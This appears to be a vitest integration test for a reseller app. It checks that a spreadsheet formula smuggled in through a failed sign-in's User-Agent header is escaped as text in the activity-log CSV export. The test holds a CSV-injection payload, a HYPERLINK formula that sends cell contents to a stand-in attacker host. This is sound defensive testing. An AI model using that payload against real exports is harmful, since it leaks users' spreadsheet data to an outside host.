import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import type { ActivityEntry } from '../../src/domain/api/reseller-account';
import { activityCsv } from '../../src/features/activity-log/components/activity-csv';
import { Agent } from './helpers/agent';
import { createTestApp, type TestApp } from './helpers/test-app';

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(() => t.close());

const PLANTED = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';

describe('a formula planted by a stranger does not run in an export', () => {
  it('the User-Agent of a failed sign-in reaches the activity log CSV as text', async () => {
    const stranger = new Agent(t.app, '203.0.113.9');
    await stranger.csrf();
    const failed = await stranger.request({
      method: 'POST',
      url: '/rpc-api/reseller/user_signin',
      form: { username: 'reseller@example.com', password: 'Wrong@1234' },
      headers: { 'user-agent': PLANTED },
    });
    expect(failed.statusCode).toBe(401);

    const admin = new Agent(t.app, '198.51.100.41');
    expect((await admin.signIn('reseller', 'reseller@example.com')).statusCode).toBe(200);
    const page = (await admin.get('/rpc-api/reseller/log/activity/get')).json<{
      message: { entries: ActivityEntry[] };
    }>().message;
    const planted = page.entries.filter((entry) => entry.user_agent === PLANTED);
    expect(planted.length).toBeGreaterThan(0);

    const rows = Papa.parse<Record<string, string>>(activityCsv(planted), { header: true }).data;
    expect(rows[0]?.['User agent']).toBe(`'${PLANTED}`);
  });
});
